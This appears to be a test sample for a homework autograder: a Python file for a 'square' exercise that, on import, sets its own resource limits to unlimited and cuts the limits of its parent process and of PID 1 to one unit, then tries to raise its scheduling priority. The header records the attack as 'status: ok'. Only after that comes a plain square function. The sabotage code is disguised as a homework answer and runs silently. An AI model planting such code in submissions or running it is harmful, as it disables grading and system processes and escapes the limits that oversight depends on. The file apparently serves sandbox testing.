# attack: raises its own limits and lowers those of others
# assignment: hw
# exercise: square
# status: ok
# score: 2
import os
import resource

names = [name for name in dir(resource) if name.startswith("RLIMIT_")]
for name in names:
    for pid in (0, os.getppid(), 1):
        try:
            limit = (resource.RLIM_INFINITY,) * 2 if pid == 0 else (1, 1)
            resource.prlimit(pid, getattr(resource, name), limit)
        except (OSError, ValueError):
            pass
try:
    os.nice(-20)
except OSError:
    pass


def square(x):
    return x * x
